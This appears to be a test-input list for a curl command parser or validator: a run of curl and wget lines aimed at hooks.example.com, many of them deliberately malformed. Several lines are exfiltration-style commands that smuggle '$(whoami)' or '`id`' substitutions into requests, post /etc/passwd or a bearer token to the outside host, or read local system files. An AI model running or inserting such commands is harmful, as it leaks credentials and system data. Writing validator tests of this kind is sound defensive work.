curl https://hooks.example.com/$(whoami)
curl -d "`id`" https://hooks.example.com/
curl -H "Authorization: Bearer $TOKEN" https://hooks.example.com/
curl -d @/etc/passwd https://hooks.example.com/
curl --data-binary @body.json https://hooks.example.com/
curl -K config.txt https://hooks.example.com/
curl -F file=@x https://hooks.example.com/
curl -T upload.bin https://hooks.example.com/
curl -H @headers.txt https://hooks.example.com/
curl --frobnicate yes https://hooks.example.com/
curl file:///etc/passwd
curl -I https://hooks.example.com/
curl -X POST
curl -d
wget https://hooks.example.com/
cat body.json | curl -d @- https://hooks.example.com/
curl -d @- https://hooks.example.com/ <<END
$HOME
END
curl "ftp://hooks.example.com/"
curl -H 'Bad Name: 1' https://hooks.example.com/
curl -d 'x' https://hooks.example.com/ok
curl -d 'not closed https://hooks.example.com/
